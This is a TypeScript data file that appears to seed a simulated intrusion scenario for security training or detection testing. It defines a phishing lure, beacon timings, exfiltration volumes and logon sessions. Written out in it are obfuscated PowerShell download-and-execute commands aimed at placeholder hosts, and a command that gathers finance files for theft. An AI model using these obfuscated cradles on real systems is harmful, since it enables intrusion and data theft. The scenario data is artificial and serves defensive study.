/**
 * The intrusion itself, as facts: who, where, when, what was typed. Every table draws on this one file, so that the same
 * moment reads the same everywhere. Times are UTC on 11 March 2026 unless they say otherwise.
 */
import { at, on11, SECOND_US } from '../core/time.ts';
import { encodePowerShell, inventedHash } from '../core/text.ts';

export const SEED = 'lantern-4';

/** The alert on the encoded command; its id is quoted in the screen designs, so not derived like the others. */
export const ENCODED_ALERT = { id: 'da3f1c07-77e2-4b10-9c41-5e07a1b2c3d4', name: 'Encoded PowerShell started by Word' } as const;

/** All logs end here. */
export const EVIDENCE_END_US = at('2026-03-12 06:00:00.000');
/** Machines restarted after the monthly update; host logs begin here. */
export const HOST_LOGS_START_US = at('2026-03-11 03:00:00.000');
/** The evening: the range that the first screen opens with. */
export const WINDOW = { fromUs: on11('21:40:00.000'), toUs: on11('23:10:00.000') } as const;

export const DOMAINS = {
  stage: 'cdn-sync.example.net',
  drop: 'drop.example.net',
  forwardTo: 'box-8841@example.net',
} as const;

const STAGE_ONE =
  "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');I`E`X $w.('Down'+'loadString').Invoke('http://cdn-sync.example.net/a.ps1')";

export const ENCODED_POWERSHELL = {
  decoded: STAGE_ONE,
  base64: encodePowerShell(STAGE_ONE),
  commandLine: `powershell.exe -NoP -W Hidden -Enc ${encodePowerShell(STAGE_ONE)}`,
} as const;

const LATERAL_ONE =
  "$s=New-Object Net.WebClient;$s.Proxy=[Net.WebRequest]::GetSystemWebProxy();I`E`X $s.('Down'+'loadString').Invoke('http://drop.example.net/f.ps1')";
const LATERAL_TWO = 'Get-ChildItem D:\\finance -Recurse -Include *.xlsx,*.pdf | Select-Object FullName,Length | Export-Csv C:\\ProgramData\\l.csv';

/** Encoded commands on the file server, after the move there. */
export const LATERAL_POWERSHELL = [
  { decoded: LATERAL_ONE, commandLine: `powershell.exe -nop -e ${encodePowerShell(LATERAL_ONE)}` },
  { decoded: LATERAL_TWO, commandLine: `pwsh.exe -enc ${encodePowerShell(LATERAL_TWO)}` },
] as const;

/** The macro document; its digest is quoted in an alert. */
export const LURE = {
  name: 'Invoice_8841.docm',
  folder: 'C:\\Users\\j.novak\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7KQ2M1XA',
  sha256: `41c9${inventedHash('sha256', 'Invoice_8841.docm').slice(4, 60)}e07d`,
  md5: inventedHash('md5', 'Invoice_8841.docm'),
} as const;

/** The message that brought it. */
export const ATTACK_MAIL = {
  sender: 'billing@port-invoices.example.org',
  subject: 'Invoice 8841 overdue',
  id: 'f1a0c3d2-5b64-4e17-8a90-2c7d6e5f4b31',
} as const;

export const PAYLOAD = { path: 'C:\\Users\\Public\\u.dat', sha256: inventedHash('sha256', 'u.dat'), md5: inventedHash('md5', 'u.dat') } as const;
export const ARCHIVE = { path: 'C:\\Users\\Public\\q1.7z', sha256: inventedHash('sha256', 'q1.7z'), sizeBytes: 236_811_904 } as const;
export const TASK_NAME = 'SyncHelper';
export const TASK_KEY = `HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\${TASK_NAME}`;

/** Logon sessions on WS-0142 that the story follows. */
export const LOGON_IDS = {
  novakInteractive: 0x4f3a1c,
  novakStolen: 0x68b1f3,
  novakStolenAgain: 0x71c40e,
  svcBackup: 0x6d20b7,
  ortizAdmin: 0x7e91d4,
} as const;

export const TIMES = {
  boot: on11('03:12:06.000'),
  novakLogon: on11('21:31:38.214'),
  firstStolenLogon: on11('22:03:41.118'),
  lureTemplate: on11('22:04:04.310'),
  encodedPowerShell: on11('22:04:17.482'),
  badPasswords: [on11('22:06:12.882'), on11('22:06:13.104'), on11('22:06:13.411')],
  badPasswordsAdmin: [on11('22:06:38.940'), on11('22:06:39.217'), on11('22:06:39.502')],
  svcBackupLogon: on11('22:06:14.006'),
  archiveStart: on11('22:11:47.066'),
  upload: on11('22:14:20.118'),
  lateralLogon: on11('22:18:58.233'),
  lateralService: on11('22:19:01.640'),
  lateralPowerShell: on11('22:19:02.116'),
  lateralPwsh: on11('22:24:40.902'),
  killed: on11('23:11:17.118'),
  accountDisabled: at('2026-03-12 00:49:10.377'),
} as const;

/** The implant calls home: 214 connections, one every 16 s, the last at 23:05:58.140. */
export const BEACON = {
  count: 214,
  intervalUs: 16 * SECOND_US,
  spreadUs: 400_000,
  lastUs: on11('23:05:58.140'),
} as const;

/** Runs of the scheduled task: each uploads a part to the second address. */
export const TASK_RUNS_US = [
  on11('22:37:00.412'),
  on11('23:07:00.387'),
  on11('23:37:00.401'),
  at('2026-03-12 00:07:00.395'),
  at('2026-03-12 00:37:00.420'),
] as const;

/** Hours whose outbound volume the theft lifts, with bytes above what is usual for them. */
export const EXFILTRATION_HOURS = [
  { startUs: on11('22:00:00.000'), extraBytes: 96_000_000 },
  { startUs: on11('23:00:00.000'), extraBytes: 80_500_000 },
  { startUs: at('2026-03-12 00:00:00.000'), extraBytes: 58_500_000 },
] as const;

/** Two harmless oddities beside them: an extra backup and a switch that was down. */
export const OTHER_ODD_HOURS = [
  { startUs: at('2026-03-09 09:00:00.000'), extraBytes: 14_500_000, why: 'Backup of FS-0007 run by hand' },
  { startUs: at('2026-03-10 10:00:00.000'), extraBytes: -21_000_000, why: 'Core switch replaced, links down for 25 minutes' },
] as const;
